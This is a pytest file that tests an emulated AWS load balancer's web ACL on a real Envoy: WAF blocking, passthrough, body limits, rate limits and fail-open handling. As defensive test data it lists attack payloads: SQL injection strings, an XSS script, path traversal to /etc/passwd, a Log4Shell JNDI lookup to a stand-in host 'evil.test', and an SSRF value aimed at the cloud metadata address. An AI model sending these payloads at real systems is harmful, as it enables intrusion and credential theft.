"""A load balancer with a web ACL, with a real Envoy and a real edge."""

import json
import socket
from http.client import HTTPConnection

import pytest

from tests.contract.edge.edge_lab import Alb, EdgeLab, ask, soon
from tests.contract.edge.waf_protect import AGENT, managed, path_is, protect, rule

pytestmark = pytest.mark.lab

CORE = "AWSManagedRulesCommonRuleSet"
BAD = "AWSManagedRulesKnownBadInputsRuleSet"
SQL = "AWSManagedRulesSQLiRuleSet"


ANYTHING = {
    "priority": "1",
    "conditions": [{"Field": "path-pattern", "PathPatternConfig": {"Values": ["*"]}}],
    "actions": [{"Type": "fixed-response", "FixedResponseConfig": {"StatusCode": "200"}}],
}


@pytest.fixture(scope="module")
def guarded(lab: EdgeLab) -> Alb:
    """A load balancer with all managed rule groups, as a template would have them."""
    a = lab.backend("a")
    alb = lab.alb(a)
    alb.wait_until("healthy", a)
    large = {"Name": "SizeRestrictions_BODY", "ActionToUse": {"Count": {}}}
    protect(alb, managed(CORE, 1, RuleActionOverrides=[large]), managed(BAD, 2), managed(SQL, 3))
    return alb


def test_a_planted_injection_is_blocked_and_others_pass(guarded: Alb) -> None:
    blocked, page = ask(guarded.place, "/?id=1%27%20or%20%271%27=%271", headers=AGENT)
    passed, body = ask(guarded.place, "/?name=O%27Brien", headers=AGENT)

    assert blocked.status == 403
    assert blocked.headers["server"] == "awselb/2.0"
    assert blocked.headers["content-type"] == "text/html"
    assert "<center><h1>403 Forbidden</h1></center>" in page
    assert {name.lower() for name in blocked.headers} == {
        "server",
        "date",
        "content-type",
        "content-length",
    }
    assert (passed.status, body) == (200, "a")


@pytest.mark.parametrize(
    ("method", "path", "headers", "body"),
    [
        ("GET", "/?q=%3Cscript%3Ealert(1)%3C/script%3E", {}, None),
        ("GET", "/.git/config", {}, None),
        ("GET", "/a/..%2f..%2fetc/passwd", {}, None),
        ("GET", "/", {"Cookie": "a=1; id=1' or '1'='1"}, None),
        ("GET", "/", {"X-Api-Version": "${jndi:ldap://evil.test/a}"}, None),
        ("GET", "/", {"User-Agent": "sqlmap/1.8"}, None),
        ("GET", "/", {"User-Agent": ""}, None),
        ("POST", "/messages", {}, b'{"text": "x\' or 1=1--"}'),
        ("POST", "/messages", {}, b"text=%27+union+select+null--"),
        ("PUT", "/messages", {}, b"url=http://169.254.169.254/latest/meta-data/"),
        ("PROPFIND", "/", {}, None),
        ("GET", "/?q=" + "x" * 3000, {}, None),
    ],
)
def test_every_part_of_a_request_is_looked_at(
    guarded: Alb, method: str, path: str, headers: dict[str, str], body: bytes | None
) -> None:
    response, _ = ask(guarded.place, path, method=method, headers=AGENT | headers, body=body)

    assert response.status == 403


def test_what_passes_arrives_as_it_was_sent(guarded: Alb) -> None:
    sent = AGENT | {"X-Request-Id": "mine", "X-Forwarded-For": "203.0.113.7", "Cookie": "a=1"}

    echoed = json.loads(ask(guarded.place, "/echo?a=%2Fb&c=d%20e", headers=sent)[1])

    assert echoed["path"] == "/echo?a=%2Fb&c=d%20e"
    assert echoed["headers"].pop("x-amzn-trace-id")
    assert echoed["headers"] == {
        "host": f"{guarded.place[0]}:8080",
        "accept-encoding": "identity",
        "user-agent": "test",
        "x-request-id": "mine",
        "cookie": "a=1",
        "x-forwarded-for": "203.0.113.7,127.0.0.1",
        "x-forwarded-proto": "http",
        "x-forwarded-port": "8080",
    }


@pytest.mark.parametrize("size", [0, 1, 8191, 8192, 8193, 100_000, 1_000_000])
def test_a_body_of_any_size_arrives_whole(guarded: Alb, size: int) -> None:
    response, answer = ask(
        guarded.place, "/messages", method="POST", headers=AGENT, body=b"x" * size
    )

    assert (response.status, answer) == (200, str(size))


def raw(place: tuple[str, int], request: bytes) -> bytes:
    """Send bytes as they are; everything that comes back until the other side closes."""
    with socket.create_connection(place, timeout=10) as connection:
        connection.sendall(request)
        parts = []
        while part := connection.recv(65536):
            parts.append(part)
        return b"".join(parts)


@pytest.mark.parametrize(
    ("request_line", "more"),
    [
        ("GET / HTTP/1.0", b"\r\n"),
        ("HEAD / HTTP/1.1", b"\r\n"),
        ("OPTIONS * HTTP/1.1", b"\r\n"),
        ("GET //a//b/?q=1?2 HTTP/1.1", b"\r\n"),
        ("GET http://a.test/x HTTP/1.1", b"\r\n"),
        ("DELETE /messages/1 HTTP/1.1", b"\r\n"),
        ("GET / HTTP/1.1", b"Content-Length: 5\r\n\r\nhello"),
        ("GET / HTTP/1.1", b"Upgrade: h2c\r\n\r\n"),
        ("POST / HTTP/1.1", b"Expect: 100-continue\r\nContent-Length: 5\r\n\r\nhello"),
        ("POST / HTTP/1.1", b"Transfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n"),
    ],
)
def test_an_odd_request_gets_the_answer_that_it_gets_without_a_web_acl(
    lab: EdgeLab, request_line: str, more: bytes
) -> None:
    plain = lab.alb(rules=[ANYTHING])
    head = f"{request_line}\r\nHost: a.test\r\nUser-Agent: test\r\nConnection: close\r\n"
    other = lab.alb(rules=[ANYTHING])
    protect(other, managed(SQL, 1))

    answers = [raw(alb.place, head.encode() + more).split(b"\r\n")[0] for alb in (plain, other)]

    assert answers[0] == answers[1]
    assert b" 500 " not in answers[1]


def test_only_the_beginning_of_a_body_is_looked_at(guarded: Alb) -> None:
    attack = b"' or 1=1--"

    def answered(before: int) -> int:
        body = b"x" * before + attack + b"\n"
        return ask(guarded.place, "/", method="POST", headers=AGENT, body=body)[0].status

    assert answered(1000) == 403
    assert answered(9000) == 200


def test_a_large_body_is_refused_where_the_rule_is_not_overridden(lab: EdgeLab) -> None:
    a = lab.backend("a")
    alb = lab.alb(a)
    alb.wait_until("healthy", a)
    protect(alb, managed(CORE, 1))

    small = ask(alb.place, "/", method="POST", headers=AGENT, body=b"x" * 8192)[0]
    large = ask(alb.place, "/", method="POST", headers=AGENT, body=b"x" * 8193)[0]

    assert (small.status, large.status) == (200, 403)


def test_the_listeners_own_answers_are_behind_the_web_acl_too(lab: EdgeLab) -> None:
    fixed = {"Type": "fixed-response", "FixedResponseConfig": {"StatusCode": "418"}}
    condition = {"Field": "path-pattern", "PathPatternConfig": {"Values": ["/tea*"]}}
    alb = lab.alb(rules=[{"priority": "1", "conditions": [condition], "actions": [fixed]}])
    protect(alb, managed(SQL, 1))

    assert ask(alb.place, "/tea?n=1", headers=AGENT)[0].status == 418
    assert ask(alb.place, "/tea?n=1+or+1=1", headers=AGENT)[0].status == 403


@pytest.mark.parametrize("status", [200, 302, 404, 429, 500, 503])
def test_a_rule_answers_with_its_own_response(lab: EdgeLab, status: int) -> None:
    alb = lab.alb()
    custom = {
        "ResponseCode": status,
        "CustomResponseBodyKey": "told",
        "ResponseHeaders": [{"Name": "X-Told", "Value": "yes"}, {"Name": "Location", "Value": "/"}],
    }
    body = {"ContentType": "APPLICATION_JSON", "Content": '{"told": true}'}
    protect(
        alb,
        rule("told", 1, path_is("/told"), {"Block": {"CustomResponse": custom}}),
        custom_response_bodies={"told": body},
    )

    response, answer = ask(alb.place, "/told", headers=AGENT)

    assert (response.status, answer) == (status, '{"told": true}')
    assert response.headers["content-type"] == "application/json"
    assert response.headers["x-told"] == "yes"
    assert response.headers["location"] == "/"


def test_counting_and_allowing_insert_headers_that_targets_see(lab: EdgeLab) -> None:
    a = lab.backend("a")
    alb = lab.alb(a)
    alb.wait_until("healthy", a)
    seen = {"CustomRequestHandling": {"InsertHeaders": [{"Name": "seen", "Value": "yes"}]}}
    protect(alb, rule("count", 1, path_is("/echo"), {"Count": seen}))

    spoofed = AGENT | {"x-amzn-waf-seen": "no"}
    echoed = json.loads(ask(alb.place, "/echo", headers=spoofed)[1])["headers"]

    assert echoed["x-amzn-waf-seen"] == "yes"


def test_a_default_action_blocks_what_no_rule_allows(lab: EdgeLab) -> None:
    a = lab.backend("a")
    alb = lab.alb(a)
    alb.wait_until("healthy", a)
    protect(alb, rule("allow", 1, path_is("/allowed"), {"Allow": {}}), default_action={"Block": {}})

    assert ask(alb.place, "/allowed", headers=AGENT)[0].status == 200
    assert ask(alb.place, "/other", headers=AGENT)[0].status == 403


def ask_from(client: str, place: tuple[str, int]) -> int:
    """A request from another address, which also says that it is somebody else."""
    connection = HTTPConnection(*place, timeout=10, source_address=(client, 0))
    try:
        claims = {"X-Nineways-Client": "192.0.2.1", "X-Forwarded-For": "192.0.2.1"}
        connection.request("GET", "/limited", headers=AGENT | claims)
        return connection.getresponse().status
    finally:
        connection.close()


def test_who_asks_too_often_is_blocked_a_little_later_and_others_are_not(lab: EdgeLab) -> None:
    a = lab.backend("a")
    alb = lab.alb(a)
    alb.wait_until("healthy", a)
    scope = path_is("/limited")
    limit = {
        "Limit": 10,
        "EvaluationWindowSec": 60,
        "AggregateKeyType": "IP",
        "ScopeDownStatement": scope,
    }
    custom = {"CustomResponse": {"ResponseCode": 429}}
    protect(alb, rule("limit", 1, {"RateBasedStatement": limit}, {"Block": custom}))
    host = alb.place[0].rsplit(".", 2)[0]

    assert ask_from(f"{host}.99.1", alb.place) == 200
    soon.until(lambda: ask_from(f"{host}.99.2", alb.place) == 429, what="429", timeout_s=20)

    assert ask_from(f"{host}.99.1", alb.place) == 200
    assert ask(alb.place, "/other", headers=AGENT)[0].status == 200


def test_a_changed_web_acl_is_in_force_without_a_failed_request(lab: EdgeLab) -> None:
    a = lab.backend("a")
    alb = lab.alb(a)
    alb.wait_until("healthy", a)
    document = protect(alb)

    assert ask(alb.place, "/new", headers=AGENT)[0].status == 200
    blocks = rule("new", 1, path_is("/new"), {"Block": {}})
    lab.emulator.change(document, rules=[blocks])

    soon.until(
        lambda: ask(alb.place, "/new", headers=AGENT)[0].status == 403,
        what="the change",
        timeout_s=10,
    )


def test_without_a_web_acl_nothing_is_asked_and_nothing_blocked(lab: EdgeLab) -> None:
    a = lab.backend("a")
    alb = lab.alb(a)
    alb.wait_until("healthy", a)
    attack = "/?id=1%27%20or%20%271%27=%271"
    assert ask(alb.place, attack, headers=AGENT)[0].status == 200

    document = protect(alb, managed(SQL, 1))
    assert ask(alb.place, attack, headers=AGENT)[0].status == 403

    lab.emulator.remove("web_acls", document)
    soon.until(
        lambda: ask(alb.place, attack, headers=AGENT)[0].status == 200,
        what="the web ACL to be gone",
        timeout_s=10,
    )
    _, listeners = ask(lab.addresses.envoy_admin, "/config_dump?resource=dynamic_listeners")
    listener = next(
        config["active_state"]["listener"]
        for config in json.loads(listeners)["configs"]
        if config["name"] == f"{alb.balancer['name']}-8080"
    )
    assert "ext_authz" not in json.dumps(listener)


def test_when_nobody_decides_requests_fail_unless_the_load_balancer_fails_open(
    own_lab: EdgeLab,
) -> None:
    a = own_lab.backend("a")
    closed = own_lab.alb(a)
    opened = own_lab.alb(a, attributes={"waf.fail_open.enabled": "true"})
    for alb in (closed, opened):
        alb.wait_until("healthy", a)
        protect(alb, managed(SQL, 1))

    own_lab.edge.kill()
    own_lab.edge.wait()

    response, page = ask(closed.place, headers=AGENT)
    assert response.status == 500
    assert response.headers["server"] == "awselb/2.0"
    assert "<h1>500 Internal Server Error</h1>" in page
    assert ask(opened.place, headers=AGENT)[0].status == 200

    own_lab.start_edge()

    attack = "/?id=1%27%20or%20%271%27=%271"
    for alb in (closed, opened):
        soon.until(
            lambda alb=alb: ask(alb.place, attack, headers=AGENT)[0].status == 403,  # type: ignore[misc]
            what="decisions",
            timeout_s=20,
        )
    assert ask(closed.place, headers=AGENT)[0].status == 200
